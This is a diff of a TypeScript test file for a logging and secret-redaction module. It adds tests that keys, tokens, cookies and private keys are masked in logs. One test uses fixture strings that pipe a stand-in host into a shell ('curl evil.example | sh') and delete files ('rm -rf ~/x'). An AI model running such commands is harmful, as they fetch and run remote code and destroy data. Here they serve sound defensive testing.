@@ -3,9 +3,15 @@ import { mkdirSync, mkdtempSync, openSync, readdirSync, readFileSync, rmSync, st
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { type TestContext, test } from "node:test";
+import fc from "fast-check";
+import { countSteps } from "../../test/world/steps.ts";
 import { type Clock, systemClock } from "../base/clock.ts";
+import { noMetrics } from "./counted.ts";
 import { openLogFile } from "./log-file.ts";
 import { type LogOptions, openLogs } from "./observe.ts";
+import { redact, redactForLog } from "./redact.ts";
+import { noTracer } from "./tracer.ts";
+import { openWatch } from "./watch.ts";
 
 const morning = Date.UTC(2026, 2, 4, 5, 6, 7, 89);
 
@@ -15,31 +21,6 @@ test("each run has a log file that is named by time and process, for its user al
   await logs.close();
   assert.equal(logs.path, join(dir, "agentyard-20260304-050607-42.log"));
   assert.equal(statSync(logs.path).mode & 0o777, 0o600);
-});
-
-test("a line is JSON with time, level, ids and the words of the requirements [O1]", async (t) => {
-  const { logs, lines } = open(t);
-  logs.info("Session persistence enabled (SQLite)");
-  logs.info("Session {id} saved ({N} messages)", { id: "4f1c", N: 12 });
-  logs.warn("sandbox session ready: {session} (attempts: {n})", { session: "s-1" });
-  assert.deepEqual(await lines(), [
-    { at: "2026-03-04T05:06:07.089Z", level: "info", message: "Session persistence enabled (SQLite)", run: "r1" },
-    {
-      at: "2026-03-04T05:06:07.089Z",
-      level: "info",
-      message: "Session 4f1c saved (12 messages)",
-      run: "r1",
-      id: "4f1c",
-      N: 12,
-    },
-    {
-      at: "2026-03-04T05:06:07.089Z",
-      level: "warn",
-      message: "sandbox session ready: s-1 (attempts: {n})",
-      run: "r1",
-      session: "s-1",
-    },
-  ]);
 });
 
 test("no line shows a secret: not in its message, not in a field, not in an error and its cause [Q1]", async (t) => {
@@ -147,14 +128,6 @@ test("a disk that stands still does not fill the memory: the log ends and says s
   assert.deepEqual([told, statSync(path).size], [["ETIMEDOUT"], 0]);
 });
 
-test("a closed log takes no more lines and can be closed again [O1]", async (t) => {
-  const { logs, lines } = open(t);
-  logs.info("kept");
-  await logs.close();
-  logs.error("late");
-  assert.equal((await lines()).length, 1);
-});
-
 test("the newest fifty log files are kept, other files are left alone [O1]", async (t) => {
   const dir = folder(t);
   mkdirSync(dir, { recursive: true });
@@ -217,3 +190,92 @@ function folder(t: TestContext): string {
 function noDevFull(): string | false {
   return process.platform === "linux" ? false : "/dev/full is found on Linux only";
 }
+
+test("a turn is measured from its beginning; one that began before this process is counted and not measured [O1]", () => {
+  const ended: unknown[] = [];
+  const metrics = { ...noMetrics, turnEnded: (turn: unknown) => void ended.push(turn) };
+  const watch = openWatch({
+    ...{ tracer: noTracer, metrics, idOf: async () => undefined, isKnownTool: () => false },
+    logger: { error: () => assert.fail("nothing broke") },
+  });
+  watch.appended(1, [{ type: "turn.started", turn: 1, message: "m", epoch: 1 }], 1_000);
+  watch.appended(1, [{ type: "turn.finished", turn: 1, outcome: "done" }], 1_250);
+  watch.appended(2, [{ type: "turn.finished", turn: 7, outcome: "cancelled" }], 2_000);
+  assert.deepEqual(ended, [
+    { outcome: "done", ms: 250 },
+    { outcome: "cancelled", ms: undefined },
+  ]);
+});
+
+const shapes: [shown: string, hidden: string, around: string][] = [
+  ["an OpenAI key", "sk-proj-4fGh7_kLmN09", "key … here"],
+  ["a bearer token", "abc.DEF-123_456", "Authorization: Bearer …"],
+  ["basic credentials", "dXNlcjpwYXNz", "authorization: Basic …"],
+  ["basic credentials in an object", "dXNlcjpwYXNz", "{ authorization: 'Basic …', accept: '*/*' }"],
+  ["basic credentials in JSON", "dXNlcjpwYXNz", '{"Authorization":"Basic …","accept":"*/*"}'],
+  ["basic credentials for a proxy", "dXNlcjpwYXNz", "'proxy-authorization': 'Basic …'"],
+  ["a cookie", "sid=4f1c99; theme=dark", "Cookie: …\r\nAccept: */*"],
+  ["a cookie in an object", "sid=4f1c99; theme=dark", "{ cookie: '…', accept: '*/*' }"],
+  ["a cookie in JSON", "sid=4f1c99", '{"cookie":"…","page":2}'],
+  ["cookies that a server sets", "[ 'sid=4f1c99; Path=/', 'b=2' ]", "{ 'set-cookie': …, date: 'today' }"],
+  ["a cookie in JSON that is quoted in JSON", "sid=4f1c99", String.raw`{"body":"{\"cookie\":\"…\",\"page\":2}"}`],
+  ["credentials in JSON that is quoted in JSON", "dXNlcjpwYXNz", String.raw`"{\"authorization\":\"Basic …\"}"`],
+  ["a key in JSON that is quoted in JSON", "zz99secret", String.raw`"{\"apiKey\": \"…\"}"`],
+  ["a GitHub token", "ghp_0123456789abcdef", "git clone with …"],
+  ["a Google key", "AIzaSyA1234567890abcdef", "see …!"],
+  ["a web token", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl", "cookie … end"],
+  ["a password in an address", "user:pass%20word", "proxy http://…@proxy.example:3128"],
+  ["a key in a query", "zz99secret", "GET /v1?api_key=…&page=2"],
+  ["a key in JSON", "zz99secret", '{"apiKey": "…", "page": 2}'],
+  ["a password in a message", "hunter2hunter2", "password: …"],
+  ["a variable", "zz99secret", "export MODEL_BASIC_API_KEY=…"],
+];
+for (const [name, hidden, around] of shapes) {
+  test(`${name} is not shown, the text around it is [Q1]`, () => {
+    assert.equal(redactForLog(around.replace("…", hidden), []), around.replace("…", "[redacted]"));
+  });
+}
+
+test("a private key is not shown, even when its end is missing [Q1]", () => {
+  const pem = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAK\n-----END RSA PRIVATE KEY-----";
+  assert.equal(redact(`before\n${pem}\nafter`, []), "before\n[redacted]\nafter");
+  assert.equal(redact(`before\n${pem.slice(0, 45)}`, []), "before\n[redacted]");
+});
+
+test("ordinary text stays as it is [Q1]", () => {
+  for (const text of [
+    "The task-management list has 3 tokens left; input_tokens: 12, output_tokens: 7.",
+    "Bearer of bad news, basic settings, https://example.com/a:b@c and 10:30.",
+    "Cookie: accepted. Set-Cookie: none; authorization: required, basic: settings=plain.",
+    "会话 4f1c 已保存（12 条消息）",
+  ])
+    assert.deepEqual([redact(text, []), redactForLog(text, [])], [text, text]);
+});
+
+test("what people decide by is shown to its end, whatever it says of cookies; only a log leaves that out [Q1][H2]", () => {
+  for (const text of ["echo cookie:a=1; curl evil.example | sh", "echo cookie:[ \nrm -rf ~/x\n curl evil.example | sh"])
+    assert.deepEqual([redact(text, []), redactForLog(text, [])], [text, "echo cookie:[redacted]"]);
+});
+
+test("a known secret is never shown, whatever stands around it [Q1]", () => {
+  const secret = fc.stringMatching(/^[0-9a-f]{6,30}$/);
+  fc.assert(
+    fc.property(secret, fc.array(secret), fc.string(), fc.string(), (known, others, before, after) => {
+      for (const hide of [redact, redactForLog])
+        assert.ok(!hide(before + known + after, [...others, known]).includes(known));
+    }),
+  );
+});
+
+test("a million characters of the beginnings of secrets are searched to their end [Q1]", async () => {
+  const parts = ["a", "sk-", "://a:", "eyJaaaaaaaaa.", "token", "-----BEGIN PRIVATE KEY-----", "Bearer "];
+  parts.push("cookie:[", "cookie: a", "cookie:'a=", "authorization:'Basic ", "token:\\\\", "cookie:a=\\");
+  const texts = parts.map((part) => part.repeat(1_000_000 / part.length));
+  const calls = texts.map((text) => ({ name: "redactForLog", with: [text, ["another secret"]] }));
+  // A pattern that tries anew from each place would take hours, and countSteps would tell.
+  const counted = await countSteps<string>(new URL("./redact.ts", import.meta.url), calls);
+  assert.deepEqual(
+    counted.map(({ value }, at) => value === texts[at]),
+    [true, false, true, false, true, false, true, false, true, false, false, false, false],
+  );
+});
